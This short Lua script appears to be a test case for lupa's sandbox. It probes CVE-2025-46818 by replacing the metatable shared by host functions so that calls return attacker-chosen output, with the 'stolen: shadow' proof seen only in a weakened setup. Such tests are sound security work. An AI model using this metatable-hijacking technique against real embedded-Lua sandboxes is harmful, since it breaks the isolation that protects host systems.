-- title: replace the metatable that all objects of the host share, and see what others give them
-- reference: CVE-2025-46818 (one metatable shared by all values of a kind), https://github.com/scoder/lupa
-- real: error: attempt to index a nil value (global 'host')
-- weakened: boot chunk, attribute filter, no host object
-- proof: value: "stolen: shadow"

local read = host.read
getmetatable(read).__call = function(_, argument) return "stolen: " .. argument end
return read("shadow")
